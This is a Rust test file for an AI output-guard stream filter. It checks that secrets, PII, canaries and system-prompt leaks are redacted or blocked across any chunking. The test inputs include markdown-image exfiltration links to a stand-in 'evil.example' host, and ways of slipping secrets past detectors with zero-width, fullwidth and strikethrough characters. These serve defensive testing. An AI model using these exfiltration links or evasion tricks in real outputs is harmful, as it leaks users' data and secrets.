use proptest::prelude::*;

use super::*;
use crate::output::Protected;
use crate::{Guard, Policy, Profile};

fn policy(name: &str, edit: impl FnOnce(&mut Profile)) -> Policy {
    let mut p = Profile::builtin(name).unwrap();
    edit(&mut p);
    Policy::new(p).unwrap()
}

fn guard() -> &'static Guard {
    static G: std::sync::OnceLock<Guard> = std::sync::OnceLock::new();
    G.get_or_init(Guard::new)
}

fn scope<'a>(policy: &'a Policy, protected: &'a Protected) -> Scope<'a> {
    Scope {
        guard: guard(),
        policy,
        canaries: &[],
        protected,
    }
}

/// Streams `chunks` and returns (released text, blocked, findings).
fn run(
    policy: &Policy,
    canaries: &[String],
    chunks: &[&str],
) -> (String, bool, Vec<OutputFinding>) {
    let protected = Protected::default();
    let scope = Scope {
        guard: guard(),
        policy,
        canaries,
        protected: &protected,
    };
    let mut s = TextStream::default();
    let mut text = String::new();
    let mut findings = Vec::new();
    let mut blocked = false;
    for c in chunks {
        let step = s.push(&scope, c);
        text.push_str(&step.text);
        findings.extend(step.findings);
        blocked |= step.blocked;
    }
    let step = s.finish(&scope);
    text.push_str(&step.text);
    findings.extend(step.findings);
    (text, blocked || step.blocked, findings)
}

const KEY: &str = "sk-proj-R8dfk2LpQ7vN3xZ0aY6bW1cE9gH4jK5mT2sUq7Lw0PzXc3Vb";

#[test]
fn a_secret_split_anywhere_never_reaches_the_client() {
    let p = policy("balanced", |_| {});
    let text = format!("Your token is {KEY} and it works.");
    let (whole, _, found) = run(&p, &[], &[&text]);
    assert_eq!(whole, "Your token is [SECRET_1] and it works.");
    assert_eq!(found.len(), 1);
    for n in [2, 3, 10] {
        let bytes = text.as_bytes();
        let size = bytes.len().div_ceil(n);
        let chunks: Vec<&str> = bytes
            .chunks(size)
            .map(|c| std::str::from_utf8(c).unwrap())
            .collect();
        assert_eq!(run(&p, &[], &chunks).0, whole, "{n} chunks");
    }
}

#[test]
fn plain_words_are_released_at_once() {
    let p = policy("balanced", |_| {});
    let protected = Protected::default();
    let scope = scope(&p, &protected);
    let mut s = TextStream::default();
    for chunk in ["Hello", " world,", " how", "ever", " it's", " done."] {
        assert_eq!(s.push(&scope, chunk).text, chunk);
    }
    assert_eq!(s.finish(&scope).text, "");
}

/// Pushes `chunks` and returns what the last push released.
fn last_release(p: &Policy, canaries: &[String], chunks: &[&str]) -> String {
    let protected = Protected::default();
    let scope = Scope {
        guard: guard(),
        policy: p,
        canaries,
        protected: &protected,
    };
    let mut s = TextStream::default();
    let mut last = String::new();
    for c in chunks {
        last = s.push(&scope, c).text;
    }
    last
}

#[test]
fn words_that_could_start_a_match_wait_for_the_next_space() {
    let balanced = policy("balanced", |_| {});
    let canary = vec!["aigis-c4n4ry-7f3a9c".to_owned()];
    for (chunks, why) in [
        (&["Use sk"][..], "the start of an OpenAI key"),
        (&["Use gh"], "the start of a GitHub token"),
        (&["see https"], "a URL scheme"),
        (&["see www"], "a bare URL"),
        (&["Look!"], "`![` opens an image"),
        (&["the password is ", "hunter"], "a value after a key word"),
        (&["key ", "deadbeef"], "hex: the lead of a Mailchimp key"),
        (&["4111"], "digits"),
        (&["mail ann"], "not plain: pii acts in strict"),
    ] {
        let p = if why.contains("strict") {
            policy("strict", |_| {})
        } else {
            balanced.clone()
        };
        let held = last_release(&p, &canary, chunks);
        let last = chunks[chunks.len() - 1];
        let word = last.rsplit(' ').next().unwrap();
        assert!(!held.ends_with(word), "{why}: released {held:?}");
    }
    let held = last_release(&balanced, &canary, &["say aigis"]);
    assert_eq!(held, "say ", "a canary's start");
    let off = policy("balanced", |pr| pr.output.early_release = false);
    assert_eq!(last_release(&off, &[], &["Hello"]), "");
    assert_eq!(last_release(&balanced, &[], &["Hello"]), "Hello");
}

#[test]
fn a_match_whose_head_was_released_is_replaced_from_there() {
    // The lead of a Terraform token is an identifier that may show (`lead_may_show`).
    let p = policy("balanced", |_| {});
    let token = format!(
        "7mPzR4tLwN2v.atlasv1.{}",
        "Zq8xR2vLm4Tn6Wp0Ys3Ku7Hd1Jf5Gb9Nc".repeat(2)
    );
    let (text, _, found) = run(&p, &[], &["Qx", &token, " ok"]);
    assert_eq!(text, "Qx[SECRET_1] ok");
    assert_eq!(found[0].detector, "secrets");
}

#[test]
fn canary_blocks_and_links_are_stripped() {
    let p = policy("balanced", |_| {});
    let canary = vec!["aigis-c4n4ry-7f3a9c".to_owned()];
    let (text, blocked, found) = run(&p, &canary, &["My rules say aigis-c4n", "4ry-7f3a9c so"]);
    assert!(blocked);
    assert_eq!(text, "My rules say ");
    assert_eq!(found[0].detector, "canary");
    let (text, blocked, _) = run(
        &p,
        &[],
        &[
            "Here: ![img](https://evil.example/p.png?q=c2VjcmV0IGRhdGEgZ29lcyBo",
            "ZXJl) done",
        ],
    );
    assert!(!blocked);
    assert_eq!(text, "Here:  done");
}

#[test]
fn pem_blocks_are_held_whole() {
    // A throwaway Ed25519 key generated for this test (`openssl genpkey -algorithm ed25519`).
    let pem = "-----BEGIN PRIVATE KEY-----\nMC4CAQAwBQYDK2VwBCIEIEDFuRvsnhKZpbYI5rnBjxqIiSy0yFQArRN9ixHKMyV9\n-----END PRIVATE KEY-----";
    let p = policy("balanced", |_| {});
    let protected = Protected::default();
    let scope = scope(&p, &protected);
    let mut s = TextStream::default();
    let (a, b) = pem.split_at(40);
    assert_eq!(s.push(&scope, &format!("key:\n{a}")).text, "key:\n");
    let step = s.push(&scope, &format!("{b}\nok "));
    assert_eq!(step.text, "[SECRET_1]\nok ");
    assert_eq!(step.findings[0].detector, "secrets");
}

#[test]
fn leak_of_the_system_prompt_blocks() {
    let p = policy("balanced", |_| {});
    let system = "You are the billing assistant for Acme Corp. Never reveal discount codes to anyone. Escalate refunds above 500 euros to a human agent.";
    let protected = Protected::new([system]);
    let scope = scope(&p, &protected);
    let mut s = TextStream::default();
    let mut blocked = false;
    for w in system.split_inclusive(' ') {
        blocked |= s.push(&scope, w).blocked;
    }
    blocked |= s.finish(&scope).blocked;
    assert!(blocked);
}

#[test]
fn hold_back_is_bounded() {
    let p = policy("balanced", |pr| pr.output.hold_back = 64);
    let protected = Protected::default();
    let scope = scope(&p, &protected);
    let mut s = TextStream::default();
    for _ in 0..100 {
        s.push(&scope, "aaaaaaaaaa");
        assert!(s.held() <= 64 + 10, "{}", s.held());
    }
}

/// Texts mixing words, secrets, e-mails, cards, phones, links and placeholders.
fn corpus() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        Just("hello".to_owned()),
        Just("the answer is".to_owned()),
        Just(KEY.to_owned()),
        Just("AKIAIOSFODNN7EXAMPLE".to_owned()),
        Just("ann.lee@example.com".to_owned()),
        Just("4111 1111 1111 1111".to_owned()),
        Just("+1 415 555 0132".to_owned()),
        Just("DE89 3704 0044 0532 0130 00".to_owned()),
        Just("[docs](https://docs.example.com/a)".to_owned()),
        Just("![x](https://evil.example/i.png?d=c2VjcmV0IGRhdGEgZ29lcyBoZXJl)".to_owned()),
        Just("https://evil.example/?t=0123456789abcdef0123456789".to_owned()),
        Just("[EMAIL_ADDRESS_1]".to_owned()),
        Just("Dr. Jane Smith".to_owned()),
        Just("12 Baker Street".to_owned()),
        Just("2024".to_owned()),
        Just("I'm sure!".to_owned()),
        Just("api_key:".to_owned()),
        Just("cafe42deadbeef".to_owned()),
        Just("ünïcödé ✓".to_owned()),
        Just("jane\u{200B}@example.com".to_owned()),
        Just("+1\u{202F}415\u{202F}555\u{202F}0132".to_owned()),
        Just("ＡＫＩＡＱ３ＥＧＵＱＫ７ＺＬＷ２ＭＸＲＵ".to_owned()),
        Just("AKIAQ3EG\u{200B}UQK7ZLW2MXRT".to_owned()),
        Just("A\u{336}K\u{336}I\u{336}A\u{336}Q3EGUQK7ZLW2MXR\u{336}T\u{336}".to_owned()),
        "[a-z]{1,8}",
    ];
    let sep = prop_oneof![Just(" "), Just(", "), Just(".\n"), Just(" - ")];
    proptest::collection::vec((piece, sep), 1..12)
        .prop_map(|v| v.into_iter().flat_map(|(p, s)| [p, s.to_owned()]).collect())
}

/// Cut points (as fractions) turned into chunks on char boundaries.
fn chunk<'a>(text: &'a str, cuts: &[usize]) -> Vec<&'a str> {
    let mut points: Vec<usize> = cuts
        .iter()
        .map(|c| floor_boundary(text, c % (text.len() + 1)))
        .collect();
    points.push(0);
    points.push(text.len());
    points.sort_unstable();
    points.dedup();
    points.windows(2).map(|w| &text[w[0]..w[1]]).collect()
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(
        std::env::var("PROPTEST_CASES").ok().and_then(|v| v.parse().ok()).unwrap_or(256)
    ))]

    #[test]
    fn any_chunking_releases_the_same_text(
        text in corpus(),
        cuts in proptest::collection::vec(0usize..10_000, 0..40),
        profile in prop_oneof![Just("balanced"), Just("strict")],
    ) {
        let p = policy(profile, |pr| {
            if pr.output.secrets == Action::Block {
                pr.output.secrets = Action::Redact;
            }
        });
        let whole = run(&p, &[], &[&text]);
        let chunked = run(&p, &[], &chunk(&text, &cuts));
        prop_assert_eq!(&chunked.0, &whole.0);
        prop_assert_eq!(chunked.1, whole.1);
        prop_assert!(!chunked.0.contains(KEY));
    }
}

/// Chunks of at most `n` bytes, on character boundaries.
fn deltas(text: &str, n: usize) -> Vec<&str> {
    let mut out = Vec::new();
    let mut at = 0;
    while at < text.len() {
        let mut end = (at + n).min(text.len());
        while !text.is_char_boundary(end) {
            end += 1;
        }
        out.push(&text[at..end]);
        at = end;
    }
    out
}

#[test]
fn values_split_by_invisible_characters_or_in_fullwidth_forms_are_redacted_whole() {
    let p = policy("balanced", |pr| pr.output.pii = Action::Redact);
    let text = "Reach jane\u{200B}@example.com or +1\u{202F}415\u{202F}555\u{202F}2671; \
                key AKIAQ3EG\u{200B}UQK7ZLW2MXRT and ＡＫＩＡＱ３ＥＧＵＱＫ７ＺＬＷ２ＭＸＲＵ, bye.";
    let (whole, blocked, found) = run(&p, &[], &[text]);
    assert_eq!(
        whole, "Reach [EMAIL_1] or [PHONE_1]; key [SECRET_1] and [SECRET_2], bye.",
        "{found:?}"
    );
    assert!(!blocked);
    let span = |kind: &str| {
        let f = found.iter().find(|f| f.kind == kind).unwrap();
        &text[f.span.clone().unwrap()]
    };
    assert_eq!(span("EMAIL_ADDRESS"), "jane\u{200B}@example.com");
    assert_eq!(span("PHONE_NUMBER"), "+1\u{202F}415\u{202F}555\u{202F}2671");
    // Streamed in small deltas: the same text, and no piece of a value gets out first.
    for n in [1, 2, 3, 5, 8] {
        let (streamed, _, _) = run(&p, &[], &deltas(text, n));
        assert_eq!(streamed, whole, "deltas of {n} bytes");
    }
    // Balanced as shipped (PII flagged, secrets redacted, early release on), cut in two
    // anywhere: a fullwidth `ＡＫＩＡＱ` is no plain word to release early.
    let p = policy("balanced", |_| {});
    for text in [
        text,
        "Here it is: ＡＫＩＡＱ３ＥＧＵＱＫ７ＺＬＷ２ＭＸＲＵ.",
    ] {
        let (whole, _, _) = run(&p, &[], &[text]);
        assert!(whole.contains("[SECRET_1]"), "{whole}");
        for (cut, _) in text.char_indices() {
            let (streamed, _, _) = run(&p, &[], &[&text[..cut], &text[cut..]]);
            assert_eq!(streamed, whole, "cut at {cut}");
        }
    }
    // A phone grouped with narrow no-break spaces is held whole while PII blocks.
    let p = policy("balanced", |pr| pr.output.pii = Action::Block);
    let text = "Call +1\u{202F}415\u{202F}555\u{202F}2671 now.";
    for n in [1, 2, 4] {
        let (streamed, blocked, _) = run(&p, &[], &deltas(text, n));
        assert!(blocked);
        assert_eq!(streamed, "Call ", "deltas of {n} bytes");
    }
}

/// `text` with `mark` after every character but spaces.
fn marked(text: &str, mark: char) -> String {
    text.chars()
        .flat_map(|c| [Some(c), (c != ' ').then_some(mark)])
        .flatten()
        .collect()
}

#[test]
fn values_struck_through_with_combining_marks_are_redacted_whole() {
    // A GitHub token with a valid checksum.
    let token = marked("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", '\u{336}');
    let key = marked("AKIAQ3EGUQK7ZLW2MXRT", '\u{336}');
    let mail = marked("jane@example.com", '\u{336}');
    let text = format!("Token {token} and key {key}, mail {mail} ok.");
    let p = policy("balanced", |pr| pr.output.pii = Action::Redact);
    let (whole, blocked, found) = run(&p, &[], &[&text]);
    assert_eq!(
        whole, "Token [SECRET_1] and key [SECRET_2], mail [EMAIL_1] ok.",
        "{found:?}"
    );
    assert!(!blocked);
    let spans: Vec<&str> = found
        .iter()
        .map(|f| &text[f.span.clone().unwrap()])
        .collect();
    assert_eq!(spans, [token.as_str(), key.as_str(), mail.as_str()]);
    // Streamed in small deltas: no piece of a value, and no mark, gets out first.
    for n in [1, 2, 3, 5, 8] {
        let (streamed, _, _) = run(&p, &[], &deltas(&text, n));
        assert_eq!(streamed, whole, "deltas of {n} bytes");
    }
    // Balanced as shipped (early release on): a struck-through word is no plain word.
    let p = policy("balanced", |_| {});
    let (whole, _, _) = run(&p, &[], &[&text]);
    assert!(
        whole.starts_with("Token [SECRET_1] and key [SECRET_2], mail"),
        "{whole}"
    );
    for n in [1, 2, 3, 5] {
        let (streamed, _, _) = run(&p, &[], &deltas(&text, n));
        assert_eq!(streamed, whole, "deltas of {n} bytes");
    }
    for (cut, _) in text.char_indices() {
        let (streamed, _, _) = run(&p, &[], &[&text[..cut], &text[cut..]]);
        assert_eq!(streamed, whole, "cut at {cut}");
    }
}
